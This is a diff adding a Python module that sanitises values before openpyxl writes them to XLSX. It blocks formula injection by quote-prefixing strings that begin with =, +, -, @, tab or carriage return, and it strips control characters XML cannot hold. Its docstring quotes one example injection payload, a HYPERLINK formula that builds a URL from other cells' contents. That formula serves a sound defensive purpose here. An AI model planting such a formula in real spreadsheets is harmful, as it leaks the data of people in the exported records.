@@ -1,0 +1,76 @@
+"""Every XLSX cell the project writes goes through here: text stays text, one bad value never breaks a file.
+
+openpyxl turns any string beginning with ``=`` into a live formula (and ``#N/A``-like strings into error
+cells), so a name or address sent by a phone or a CSV as ``=HYPERLINK("http://…"&S2&T2, "…")`` would run
+when the export is opened. Following OWASP's advice on CSV/XLSX injection, a string beginning with ``=``,
+``+``, ``-``, ``@``, a tab or a carriage return is written as a *string* cell (never a formula) with Excel's
+"quote prefix" style: spreadsheet programs show it as text and keep it text when the cell is edited, as if
+the user had typed a leading apostrophe — while the stored value stays exactly the person's text, so an
+export still imports back unchanged. Numbers (a negative number too) stay numbers.
+
+XML cannot hold most control characters; openpyxl raises on them, which failed the whole export for one
+vertical tab or NUL in one address. Here form feeds, vertical tabs and separators become spaces and the rest
+are dropped; a text longer than a cell can hold (32,767 characters) is cut with "…"; non-finite numbers
+(NaN, infinity) become empty cells.
+
+Use ``workbook()`` (write-only, streaming) or any openpyxl worksheet, and ``append(ws, row)`` or
+``cell(ws, value)`` for every value.
+"""
+
+from __future__ import annotations
+
+import math
+import re
+
+from openpyxl.cell.cell import ERROR_CODES, Cell
+
+MAX_CELL_CHARS = 32767  # Excel's limit per cell
+RISKY_FIRST = ("=", "+", "-", "@", "\t", "\r")
+_SPACE_LIKE = re.compile(r"[\x0b\x0c\x1c-\x1f]")
+_ILLEGAL = re.compile(r"[\x00-\x08\x0e-\x1b\x7f\ud800-\udfff\ufffe\uffff]")
+
+
+def clean_text(value: str) -> str:
+    """The text with what XLSX cannot hold replaced (space-like controls) or removed, and cut to fit."""
+    value = _ILLEGAL.sub("", _SPACE_LIKE.sub(" ", value))
+    if len(value) > MAX_CELL_CHARS:
+        value = value[: MAX_CELL_CHARS - 1] + "…"
+    return value
+
+
+def is_risky(text: str) -> bool:
+    """Would a spreadsheet program read this text as a formula (or an error code)?"""
+    return text.startswith(RISKY_FIRST) or text in ERROR_CODES
+
+
+def safe_value(value):
+    """A plain value openpyxl may write as is, or a cleaned string that ``cell`` must still protect."""
+    if isinstance(value, str):
+        return clean_text(value)
+    if isinstance(value, float) and not math.isfinite(value):
+        return None
+    return value
+
+
+def cell(ws, value):
+    """The value for ``ws.append``: itself when harmless, else a string cell that cannot be a formula."""
+    value = safe_value(value)
+    if not isinstance(value, str) or not is_risky(value):
+        return value
+    c = Cell(ws, row=1, column=1)  # ws.append places it
+    c._value = value
+    c.data_type = "s"
+    c.quotePrefix = True
+    return c
+
+
+def append(ws, row) -> None:
+    """``ws.append(row)`` with every value made safe (works for write-only and ordinary worksheets)."""
+    ws.append([cell(ws, v) for v in row])
+
+
+def workbook():
+    """A streaming (write-only) workbook, for exports of any size."""
+    from openpyxl import Workbook
+
+    return Workbook(write_only=True)
